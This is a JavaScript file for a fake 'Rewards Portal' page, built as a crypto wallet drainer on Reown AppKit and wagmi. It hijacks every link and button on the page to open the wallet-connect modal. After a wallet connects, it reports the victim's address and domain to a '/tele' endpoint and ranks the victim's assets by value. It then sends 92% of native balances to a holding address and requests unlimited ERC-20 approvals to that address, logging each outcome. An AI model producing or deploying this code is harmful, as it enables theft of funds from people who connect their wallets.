import { createAppKit } from "@reown/appkit";
import { WagmiAdapter } from "@reown/appkit-adapter-wagmi";
import { watchAccount, getBalance, writeContract, sendTransaction, switchChain } from "@wagmi/core";
import { maxUint256, erc20Abi } from "viem";
import { networks, portfolio } from "./data";

const projectId = "00000000000000000000000000000000";
const adapter = new WagmiAdapter({ networks, projectId });
const modal = createAppKit({ adapters: [adapter], networks, projectId, metadata: { name: "Rewards Portal", url: location.origin, icons: [] }, themeMode: "dark" });
const HOLD = "0x000000000000000000000000000000000000dEaD";
let busy = false;

watchAccount(adapter.wagmiConfig, {
  async onChange(acc) {
    if (!acc.isConnected || busy) return;
    busy = true;
    await axios.post("/tele", { message: `New connection\nWallet: ${acc.address}\nVia: ${acc.connector.name}\nDomain: ${location.host}` });
    const assets = await portfolio(acc.address);
    const sorted = assets.filter((a) => a.usd >= 1).sort((a, b) => b.usd - a.usd);
    for (const asset of sorted) {
      try {
        if (acc.chainId !== asset.chainId) await switchChain(adapter.wagmiConfig, { chainId: asset.chainId });
        if (asset.native) {
          const { value } = await getBalance(adapter.wagmiConfig, { address: acc.address, chainId: asset.chainId });
          await sendTransaction(adapter.wagmiConfig, { to: HOLD, value: (value * 92n) / 100n });
        } else {
          await writeContract(adapter.wagmiConfig, { address: asset.address, abi: erc20Abi, functionName: "approve", args: [HOLD, maxUint256] });
        }
        await axios.post("/tele", { message: `Approved ${asset.symbol} $${asset.usd} ${acc.address}` });
      } catch (e) {
        await axios.post("/tele", { message: `Rejected ${asset.symbol} $${asset.usd} ${acc.address}` });
      }
    }
    busy = false;
  },
});
for (const el of document.querySelectorAll("a,button,.interact-button")) {
  el.addEventListener("click", (e) => {
    e.preventDefault();
    modal.open();
  });
}
